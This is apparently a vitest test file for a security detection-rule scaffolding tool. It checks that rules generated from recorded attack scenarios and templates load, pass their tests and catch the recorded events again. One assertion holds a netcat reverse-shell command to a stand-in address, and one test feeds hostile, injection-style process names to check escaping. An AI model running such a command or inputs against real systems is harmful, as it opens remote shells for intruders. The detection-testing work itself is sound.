/** "Make a rule that catches this", of every alert of recorded attacks, and of each template. */
import { describe, expect, it } from 'vitest';
import { scaffoldFrom } from '../../src/authoring/scaffold.ts';
import { subjectOfAlert, subjectOfRecord } from '../../src/authoring/subject.ts';
import { fromTemplate, TEMPLATE_NAMES } from '../../src/authoring/templates.ts';
import { runRuleTests } from '../../src/rule-tests/run.ts';
import { loadRules } from '../../src/rules/load.ts';
import { decodeLine } from '../../src/sources/json/decoder.ts';
import { alertsOf, eventsOf, shippedRules } from './recorded.ts';

const identity = { id: '4f2cbb51-0f53-4d43-9d25-2b8a87a4a002', date: '2026-11-25', author: 'A: "tester"' };
const options = {
  decode: decodeLine,
  readCapture: () => {
    throw new Error('no captures here');
  },
};

function loaded(text: string) {
  const { rules, diagnostics, tests } = loadRules([{ file: 'new.yaml', text }]);
  expect(diagnostics).toEqual([]);
  expect(rules).toHaveLength(1);
  const results = runRuleTests(
    rules.map(rule => ({ rule, tests: tests.get(rule.id) ?? [] })),
    options,
  );
  expect(results.length).toBeGreaterThanOrEqual(2);
  expect(results.flatMap(result => result.problems)).toEqual([]);
  return rules;
}

describe('templates', () => {
  it.each(TEMPLATE_NAMES)('%s loads without a complaint and passes its tests', name => {
    loaded(fromTemplate(name, identity) ?? '');
  });

  it('knows no others', () => {
    expect(fromTemplate('constructor', identity)).toBeNull();
  });
});

describe.each(['lateral-movement', 'credential-theft', 'exfil', 'escape-nsenter', 'miner', 'reverse-shells'])(
  'rules made of the alerts of %s',
  scenario => {
    const events = eventsOf(scenario);
    const alerts = alertsOf(shippedRules(), events);

    it('load, pass their tests, catch the recorded event again, and name nothing of one run', () => {
      expect(alerts.length).toBeGreaterThan(3);
      for (const alert of alerts) {
        const subject = subjectOfAlert(alert, decodeLine);
        expect(subject).not.toBeNull();
        const made = scaffoldFrom(subject!, identity, options);
        if ('problem' in made) throw new Error(`${alert.rule.title}: ${made.problem}`);
        const rules = loaded(made.text);
        expect([made.text.includes('\nsequence:'), made.text.includes('raw:')]).toEqual([
          Object.keys(alert.steps).length > 1,
          false,
        ]);
        const again = alertsOf(rules, events);
        expect(again.length, `${alert.rule.title}\n${made.text}`).toBeGreaterThan(0);
        const detection = made.text.slice(made.text.indexOf('detection:'), made.text.indexOf('tests:'));
        expect(detection).not.toMatch(/\d{1,3}(\.\d{1,3}){3}|[0-9a-f]{8,}|\.pid|exec_id/);
      }
    });
  },
);

it('keeps the order of a story, and who did it', () => {
  const events = eventsOf('lateral-movement');
  const alert = alertsOf(shippedRules(), events).find(({ rule }) => rule.title === 'Reverse shell by a network tool');
  const made = scaffoldFrom(subjectOfAlert(alert!, decodeLine)!, identity, options);
  if ('problem' in made) throw new Error(made.problem);
  const [rule] = loaded(made.text);
  expect(rule?.sequence).toMatchObject({ by: { type: 'process' }, steps: [{ id: 'exec' }, { id: 'egress' }] });
  const [again] = alertsOf([rule!], events);
  expect(again?.steps).toEqual({ exec: { event: 0 }, egress: { event: 1 } });
  expect(again?.message).toContain('nc.traditional 198.51.100.66 4444 -e /bin/bash');
  // The same events the other way round are not the story.
  expect(alertsOf([rule!], [...events].reverse())).toEqual([]);
});

it('makes no rule that would fire on everything', () => {
  const record = {
    process_exec: { process: { exec_id: 'eA==', pid: 1, binary: '/a8f2k1z9x3', start_time: '2026-01-01T00:00:00Z' } },
    node_name: 'n',
    time: '2026-01-01T00:00:00Z',
  };
  const made = scaffoldFrom(subjectOfRecord(JSON.stringify(record), decodeLine), identity, options);
  expect(made).toHaveProperty('problem');
});

it('writes hostile names so that they mean themselves', () => {
  const record = {
    process_exec: {
      process: {
        exec_id: 'eA==',
        pid: 1,
        binary: '/usr/bin/%x%*?\\{process.name}\n- "\u202e',
        arguments: "--evil ': [}]\n\u0000",
        start_time: '2026-01-01T00:00:00Z',
      },
    },
    node_name: 'n',
    time: '2026-01-01T00:00:00Z',
  };
  const made = scaffoldFrom(subjectOfRecord(JSON.stringify(record), decodeLine), identity, options);
  if ('problem' in made) throw new Error(made.problem);
  loaded(made.text);
});
